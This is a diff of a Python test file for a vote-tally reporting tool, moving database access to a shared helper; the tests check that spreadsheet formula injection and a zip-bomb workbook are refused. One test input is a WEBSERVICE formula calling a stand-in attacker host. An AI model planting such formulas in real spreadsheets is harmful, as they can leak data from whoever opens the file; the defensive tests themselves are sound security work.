@@ -16,8 +16,6 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
-import shutil
-import sqlite3
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -35,6 +33,7 @@ from bot.core.clock import ManualClock
 from bot.web import build_web_app
 from handlers.soum import import_scores
 from storage import people
+from tests import suite_backend
 from tests.conftest import START, ZAG_BAG_1, Phone, make_official, make_settings
 
 ZAG = "6446"
@@ -112,25 +111,22 @@ def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture
-def db(built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+def db(built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path | str:
     monkeypatch.chdir(tmp_path)
     # `units import` writes: it needs the key the database was made with (storage/keyguard).
     monkeypatch.setenv("SANAL_BALLOT_KEY", "test-ballot-key")
-    copy = tmp_path / "sanal.db"
-    shutil.copy(built, copy)
-    return copy
+    return suite_backend.copy(built, tmp_path / "sanal.db")
 
 
 def run(*args: str) -> Result:
     return CliRunner().invoke(main, list(args), catch_exceptions=False)
 
 
-def _rename_bag(db: Path, tmp_path: Path) -> None:
+def _rename_bag(db: Path | str, tmp_path: Path) -> None:
     """`sanal units import` of the aimag, the soum and the bag, named as an attacker."""
-    with sqlite3.connect(db) as conn:
-        [(aimag,)] = conn.execute("SELECT parent_code FROM units WHERE code = ?", (ZAG,))
-        sql = "SELECT code, name FROM units WHERE code IN (?, ?)"
-        names = dict(conn.execute(sql, (aimag, ZAG)))
+    [(aimag,)] = suite_backend.rows(db, "SELECT parent_code FROM units WHERE code = ?", ZAG)
+    sql = "SELECT code, name FROM units WHERE code IN (?, ?)"
+    names = dict(suite_backend.rows(db, sql, aimag, ZAG))
     units = tmp_path / "units.csv"
     with units.open("w", newline="", encoding="utf-8") as f:
         w = csv.writer(f)
@@ -180,7 +176,7 @@ def _check_workbook(path: Path, expected: set[str]) -> set[str]:
     return found
 
 
-def test_every_report_writes_typed_text_as_text(db: Path, tmp_path: Path) -> None:
+def test_every_report_writes_typed_text_as_text(db: Path | str, tmp_path: Path) -> None:
     _rename_bag(db, tmp_path)
     out = tmp_path / "out"
     result = run("report", "all", ZAG, "--db", str(db), "--out", str(out))
@@ -230,7 +226,7 @@ def test_every_report_writes_typed_text_as_text(db: Path, tmp_path: Path) -> Non
         assert not (len(cell) > 1 and cell[0] in "=+-@\t\r"), cell
 
 
-def _filled_sheet(db: Path, tmp_path: Path) -> tuple[Path, Any]:
+def _filled_sheet(db: Path | str, tmp_path: Path) -> tuple[Path, Any]:
     sheet = tmp_path / "sheet.xlsx"
     assert run("report", "scores", ZAG, "--db", str(db), "-o", str(sheet)).exit_code == 0
     wb = load_workbook(sheet)
@@ -241,12 +237,12 @@ def _filled_sheet(db: Path, tmp_path: Path) -> tuple[Path, Any]:
     return sheet, wb
 
 
-def _stored(db: Path) -> int:
-    with sqlite3.connect(db) as conn:
-        return int(conn.execute("SELECT count(*) FROM soum_scores").fetchone()[0])
+def _stored(db: Path | str) -> int:
+    [(n,)] = suite_backend.rows(db, "SELECT count(*) FROM soum_scores")
+    return int(n)
 
 
-def test_a_score_sheet_with_typed_text_imports(db: Path, tmp_path: Path) -> None:
+def test_a_score_sheet_with_typed_text_imports(db: Path | str, tmp_path: Path) -> None:
     """The formula-like proposal texts go out as text and come back harmless."""
     sheet, wb = _filled_sheet(db, tmp_path)
     wb.save(sheet)
@@ -257,7 +253,7 @@ def test_a_score_sheet_with_typed_text_imports(db: Path, tmp_path: Path) -> None
 
 @pytest.mark.parametrize("formula", ["=2+3", '=WEBSERVICE("http://evil.example/x")'])
 def test_a_formula_in_a_score_cell_is_refused_not_computed(
-    db: Path, tmp_path: Path, formula: str
+    db: Path | str, tmp_path: Path, formula: str
 ) -> None:
     sheet, wb = _filled_sheet(db, tmp_path)
     wb.worksheets[0].cell(row=3, column=7, value=formula)  # openpyxl stores it as a formula
@@ -273,7 +269,7 @@ def test_a_formula_in_a_score_cell_is_refused_not_computed(
     assert _stored(db) == before
 
 
-def test_a_score_sheet_that_unpacks_to_gigabytes_is_refused(db: Path, tmp_path: Path) -> None:
+def test_a_score_sheet_that_unpacks_to_gigabytes_is_refused(db: Path | str, tmp_path: Path) -> None:
     sheet, wb = _filled_sheet(db, tmp_path)
     wb.save(sheet)
     bomb = tmp_path / "bomb.xlsx"
